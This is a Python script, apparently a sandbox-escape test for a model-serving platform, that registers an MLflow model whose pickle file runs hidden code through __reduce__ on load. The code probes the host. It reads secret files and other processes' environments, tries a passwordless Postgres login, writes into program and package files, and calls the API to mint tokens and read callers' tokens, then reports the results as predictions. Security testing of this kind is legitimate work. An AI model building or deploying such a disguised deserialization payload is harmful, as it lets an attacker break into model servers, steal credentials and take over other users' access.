"""Registers a model whose pickle runs code of its own when it is loaded. That code looks for all it should not reach on
the machine of the model server, and its predictions are what it found. Run: log_hostile_model.py URI NAME DATA_FOLDER CHECKOUT"""
import json
import os
import pickle
import sys
import tempfile

import mlflow
from sklearn.datasets import load_iris
from sklearn.linear_model import LogisticRegression

uri, name, data, checkout = sys.argv[1:]

ATTACK = r'''
import glob, json, os, socket, struct, urllib.error, urllib.request

data, uri, checkout = DATA, URI, CHECKOUT
found = {}

def attempt(what, action):
    try:
        found[what] = action()
    except urllib.error.HTTPError as error:
        found[what] = "refused: %d %s" % (error.code, error.read()[:200].decode())
    except Exception as error:
        found[what] = "refused: %s" % type(error).__name__

def read(path):
    with open(path, "rb") as file:
        return "READ %d bytes" % len(file.read())

def write(path):
    with open(path, "ab"):
        return "WRITTEN"

def ask(url, body=None):
    request = urllib.request.Request(url, data=None if body is None else json.dumps(body).encode(), headers={"content-type": "application/json"})
    return "ANSWERED %s" % urllib.request.urlopen(request, timeout=5).read()[:200].decode()

def database():
    ports = {int(line.split()[1].split(":")[1], 16) for line in open("/proc/net/tcp").readlines()[1:] if line.split()[3] == "0A"}
    answers = []
    for port in sorted(ports):
        try:
            with socket.create_connection(("127.0.0.1", port), 1) as connection:
                connection.settimeout(1)
                words = b"user\0modelyard\0database\0modelyard\0\0"
                connection.sendall(struct.pack("!ii", len(words) + 8, 196608) + words)
                head = connection.recv(9)
                if head[:1] == b"R":
                    answers.append(struct.unpack("!i", head[5:9])[0])
        except OSError:
            pass
    if 0 in answers:
        return "LET IN WITHOUT A PASSWORD"
    return "refused: asks for a password" if answers else "refused: not found"

def environments():
    seen = 0
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            text = open(path, "rb").read()
        except OSError:
            continue
        if b"DATABASE_URL" in text or b"MODELYARD_DATA_DIR" in text:
            seen += 1
    return "READ %d environments" % seen if seen else "refused: none to be read"

def signal():
    touched = 0
    for path in glob.glob("/proc/[0-9]*"):
        pid = int(os.path.basename(path))
        try:
            line = open(path + "/cmdline", "rb").read()
            if b"gateway/main.js" in line or b"worker/main.js" in line:
                os.kill(pid, 0)
                touched += 1
        except OSError:
            pass
    return "MAY KILL %d processes" % touched if touched else "refused: none to be killed"

attempt("data folder", lambda: "LISTED %s" % [name for name in os.listdir(data) if name != "local"] if os.listdir(data) != ["local"] else "refused: covered, but for its own part")
attempt("secrets folder", lambda: "LISTED %s" % os.listdir(data + "/secrets"))
for secret in ("secrets/postgres.json", "secrets/router-token", "secrets/provenance-key", "secrets/audit-key", "run/state.json", "logs/gateway.log"):
    attempt(secret, lambda: read(data + "/" + secret))
attempt("artifacts", lambda: "LISTED %s" % os.listdir(data + "/artifacts"))
attempt("a file in the data folder", lambda: write(data + "/left-behind"))
attempt("the program", lambda: write(checkout + "/dist/apps/gateway/main.js"))
attempt("its own environment", lambda: write(os.path.join(os.path.dirname(json.__file__), "left_behind.py")))
attempt("the packages", lambda: write(os.path.join(os.path.dirname(__import__("mlflow").__file__), "left_behind.py")))
names = [key for key in os.environ if key != "MODELYARD_PROCESS" and ("DATABASE" in key or "TOKEN" in key or "SECRET" in key or "KEY" in key or key.startswith(("S3_", "REDIS", "MODELYARD")))]
attempt("own variables", lambda: "SEEN %s" % names if names else "refused: none set")
attempt("variables of others", environments)
attempt("other processes", signal)
attempt("the database", database)
attempt("the API as the person", lambda: ask(uri + "/api/2.0/mlflow/experiments/get?experiment_id=0"))
attempt("a token of its own", lambda: ask(uri + "/graphql", {"query": "mutation { createToken(input: {name: \"stolen\"}) { text } }"}))
attempt("tokens of callers", lambda: ask(uri + "/internal/router/tokens"))
attempt("another endpoint", lambda: ask(uri + "/endpoints/other/invocations", {"inputs": [1]}))

class Spy:
    def predict(self, rows):
        import numpy
        return numpy.array([json.dumps(found)] * len(rows))

model = Spy()
'''


class Hostile:
    def __reduce__(self):
        code = ATTACK.replace("DATA, URI, CHECKOUT", repr((data, uri, checkout)))
        return eval, ("(lambda names: (exec(names['code'], names), names['model'])[1])({'code': %r})" % code,)


mlflow.set_tracking_uri(uri)
X, y = load_iris(return_X_y=True, as_frame=True)
folder = os.path.join(tempfile.mkdtemp(), "model")
mlflow.sklearn.save_model(LogisticRegression(max_iter=200).fit(X, y), folder, serialization_format="cloudpickle")
with open(os.path.join(folder, "model.pkl"), "wb") as file:
    pickle.dump(Hostile(), file)
with mlflow.start_run() as run:
    mlflow.log_artifacts(folder, "model")
mlflow.register_model(f"runs:/{run.info.run_id}/model", name)
